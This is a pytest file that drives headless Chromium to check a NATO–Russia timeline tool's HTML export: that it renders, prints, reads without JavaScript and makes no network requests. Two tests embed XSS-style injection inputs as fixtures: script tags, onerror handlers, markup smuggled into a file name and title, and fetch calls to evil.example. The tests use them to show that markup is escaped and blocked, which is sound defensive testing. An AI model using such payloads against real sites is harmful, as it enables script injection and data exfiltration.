"""The HTML export in a real browser: headless Chromium (Debian's ``chromium``),
driven over the DevTools protocol on a pipe (``--remote-debugging-pipe``, no
extra package). The page renders, every event is in the rendered DOM, it reads
the same with JavaScript off, it prints, and it makes no network request: the
page's own requests are counted from the protocol's ``Network`` events (the
browser's background traffic is not the page's and is not counted), and every
host name resolves nowhere, so nothing could leave the machine anyway.

Skips with a reason where Chromium is not installed (``make test`` installs it
when apt-get is available).
"""

from __future__ import annotations

import base64
import json
import os
import select
import shutil
import struct
import subprocess
import time
import zlib
from pathlib import Path

import pytest

CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if os.access("/usr/bin/chromium", os.X_OK) else None)

pytestmark = pytest.mark.skipif(
    CHROMIUM is None,
    reason="Chromium is not installed (apt-get install -y chromium): the HTML export is not tested in a browser",
)


class Browser:
    """Headless Chromium with the DevTools protocol on fds 3 (commands) and 4 (replies),
    messages being JSON separated by NUL bytes."""

    def __init__(self, profile: Path):
        to_child_r, self._to_child = os.pipe()
        self._from_child, from_child_w = os.pipe()

        def wire_fds():
            import fcntl

            r, w = fcntl.fcntl(to_child_r, fcntl.F_DUPFD, 10), fcntl.fcntl(from_child_w, fcntl.F_DUPFD, 10)
            os.dup2(r, 3)
            os.dup2(w, 4)

        args = [
            CHROMIUM, "--headless", "--remote-debugging-pipe",
            "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--disable-extensions", "--no-proxy-server",
            "--host-resolver-rules=MAP * ~NOTFOUND", "--hide-scrollbars", f"--user-data-dir={profile}",
            "about:blank",
        ]
        self.proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, preexec_fn=wire_fds, pass_fds=(3, 4))
        os.close(to_child_r)
        os.close(from_child_w)
        self._buf = b""
        self._id = 0
        self.events: list[dict] = []

    def _read(self, timeout: float) -> dict | None:
        deadline = time.monotonic() + timeout
        while b"\0" not in self._buf:
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([self._from_child], [], [], left)[0]:
                return None
            chunk = os.read(self._from_child, 1 << 16)
            if not chunk:
                raise RuntimeError("Chromium closed the DevTools pipe")
            self._buf += chunk
        message, self._buf = self._buf.split(b"\0", 1)
        return json.loads(message)

    def send(self, method: str, params: dict | None = None, session: str | None = None, timeout: float = 60):
        self._id += 1
        message = {"id": self._id, "method": method, "params": params or {}}
        if session:
            message["sessionId"] = session
        os.write(self._to_child, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + timeout
        while True:
            reply = self._read(deadline - time.monotonic())
            if reply is None:
                raise TimeoutError(method)
            if reply.get("id") == self._id:
                if "error" in reply:
                    raise RuntimeError(f"{method}: {reply['error']}")
                return reply.get("result", {})
            self.events.append(reply)

    def wait_for(self, method: str, timeout: float = 60) -> dict:
        for event in self.events:
            if event.get("method") == method:
                return event
        deadline = time.monotonic() + timeout
        while True:
            event = self._read(deadline - time.monotonic())
            if event is None:
                raise TimeoutError(method)
            self.events.append(event)
            if event.get("method") == method:
                return event

    def settle(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while (event := self._read(max(0.0, deadline - time.monotonic()))) is not None:
            self.events.append(event)

    def close(self) -> None:
        try:
            self.send("Browser.close", timeout=10)
        except Exception:
            pass
        try:
            self.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        os.close(self._to_child)
        os.close(self._from_child)


class Tab:
    def __init__(self, browser: Browser, url: str, *, scripts: bool = True, width: int = 1100, height: int = 1400):
        self.browser = browser
        target = browser.send("Target.createTarget", {"url": "about:blank"})["targetId"]
        self.session = browser.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        for domain in ("Network", "Page", "Log"):
            self.call(f"{domain}.enable")
        self.call("Emulation.setDeviceMetricsOverride",
                  {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False})
        if not scripts:
            self.call("Emulation.setScriptExecutionDisabled", {"value": True})
        browser.events.clear()
        self.call("Page.navigate", {"url": url})
        browser.wait_for("Page.loadEventFired")
        browser.settle(1.0)

    def call(self, method: str, params: dict | None = None):
        return self.browser.send(method, params, session=self.session)

    def js(self, expression: str):
        return self.call("Runtime.evaluate", {"expression": expression, "returnByValue": True})["result"]["value"]

    def requests(self) -> list[str]:
        return [e["params"]["request"]["url"] for e in self.browser.events
                if e.get("method") == "Network.requestWillBeSent" and e.get("sessionId") == self.session]

    def log(self) -> list[str]:
        return [e["params"]["entry"]["text"] for e in self.browser.events
                if e.get("method") == "Log.entryAdded" and e.get("sessionId") == self.session]


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    b = Browser(tmp_path_factory.mktemp("chromium") / "profile")
    yield b
    b.close()


def export_html(runner, db: Path, out: Path) -> str:
    from nato_timeline.cli import app

    result = runner.invoke(app, ["export", "--format", "html", "--include-undated", "-o", str(out), "--db", str(db)])
    assert result.exit_code == 0, result.stderr
    return out.as_uri()


def events_of(runner, db: Path) -> list[dict]:
    from nato_timeline.cli import app

    return json.loads(runner.invoke(app, ["list", "--include-undated", "--format", "json", "--db", str(db)]).stdout)


EVENT_IDS = "Array.from(document.querySelectorAll('li.event')).map(e => e.id)"
VISIBLE_TITLES = ("Array.from(document.querySelectorAll('li.event h3'))"
                  ".filter(h => h.getBoundingClientRect().height > 0).map(h => h.textContent)")


def test_page_renders_every_event_and_requests_nothing(runner, seeded_db, browser, tmp_path):
    url = export_html(runner, seeded_db, tmp_path / "timeline.html")
    tab = Tab(browser, url)
    events = events_of(runner, seeded_db)
    assert events
    assert tab.js(EVENT_IDS) == [f"e-{e['slug']}" for e in events]
    assert tab.js(VISIBLE_TITLES) == [e["title"] for e in events]
    assert tab.js("document.title") == "NATO–Russia relations: a chronology"
    assert tab.js("Array.from(document.querySelectorAll('section.year h2')).map(h => h.textContent)") == \
        list(dict.fromkeys(e["date"][:4] for e in events))
    assert tab.requests() == [url], "the page asked for something besides itself"
    assert not [m for m in tab.log() if "Content Security Policy" in m], tab.log()


def test_the_request_check_catches_a_page_that_reaches_out(browser, tmp_path):
    """The check can fail: outside and relative references are seen even though nothing resolves."""
    page = tmp_path / "leaky.html"
    page.write_text('<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.example/x.css"></head>'
                    '<body><img src="local.png"><script>fetch("http://evil.example/x")</script></body></html>')
    seen = Tab(browser, page.as_uri()).requests()
    assert "https://cdn.example/x.css" in seen
    assert (tmp_path / "local.png").as_uri() in seen
    assert "http://evil.example/x" in seen


def test_readable_with_javascript_off(runner, seeded_db, browser, tmp_path):
    url = export_html(runner, seeded_db, tmp_path / "timeline.html")
    tab = Tab(browser, url, scripts=False)
    titles = [e["title"] for e in events_of(runner, seeded_db)]
    text = tab.call("Runtime.evaluate", {"expression": "document.body.innerText", "returnByValue": True})
    body = text["result"]["value"]
    for title in titles:
        assert title in body
    assert tab.requests() == [url]


def test_document_markup_is_shown_as_text_never_run(runner, browser, tmp_path):
    from nato_timeline.cli import app

    docs = tmp_path / "docs"
    docs.mkdir()
    hostile = ('<script>document.title="PWNED";fetch("http://evil.example/script")</script> '
               '<img src="http://evil.example/img.png" onerror="document.title=\'PWNED\'">')
    name = "x<img src=y onerror=alert(1)>.txt"
    title = "Council <img src=y onerror=alert(2)> meets"
    (docs / name).write_text(f"---\ntitle: {title}\n---\nBrussels 12.01.2022\n\nThe NATO-Russia Council met in "
                             f"Brussels on 12 January 2022 {hostile} to discuss European security.\n")
    db = tmp_path / "hostile.db"
    assert runner.invoke(app, ["ingest", str(docs), "--db", str(db)]).exit_code == 0
    [ev] = events_of(runner, db)
    assert "<script>" in ev["sources"][0]["quote"], "the document's markup reached the store"
    url = export_html(runner, db, tmp_path / "timeline.html")
    tab = Tab(browser, url)
    assert tab.js("document.title") != "PWNED"
    assert tab.js("document.querySelectorAll('script, img, [onerror]').length") == 0
    quote = tab.js("document.querySelector('.sources blockquote').textContent")
    assert '<script>document.title="PWNED"' in quote and "onerror=" in quote
    # the citation names the document by its title, markup and all, as text
    assert title in tab.js("document.querySelector('.sources cite').textContent")
    assert tab.requests() == [url]


def _png(data: bytes) -> tuple[int, int, int]:
    """(width, height, distinct byte values in the pixel data) of a PNG, with the stdlib."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat, width, height = 8, b"", 0, 0
    while pos < len(data):
        length, kind = struct.unpack(">I4s", data[pos:pos + 8])
        chunk = data[pos + 8:pos + 8 + length]
        if kind == b"IHDR":
            width, height = struct.unpack(">II", chunk[:8])
        elif kind == b"IDAT":
            idat += chunk
        pos += 12 + length
    return width, height, len(set(zlib.decompress(idat)))


def test_screenshot_and_print(runner, seeded_db, browser, tmp_path):
    url = export_html(runner, seeded_db, tmp_path / "timeline.html")
    tab = Tab(browser, url, width=1100, height=1400)
    shot = base64.b64decode(tab.call("Page.captureScreenshot", {"format": "png"})["data"])
    width, height, values = _png(shot)
    assert (width, height) == (1100, 1400)
    assert values > 50, "the screenshot is a blank page"
    pdf = base64.b64decode(tab.call("Page.printToPDF", {"displayHeaderFooter": False})["data"])
    assert pdf.startswith(b"%PDF")
    tab.call("Emulation.setEmulatedMedia", {"media": "print"})
    assert tab.js("getComputedStyle(document.querySelector('nav.years')).display") == "none"
    assert tab.js("getComputedStyle(document.querySelector('li.event')).breakInside") == "avoid"
    assert tab.requests() == [url]
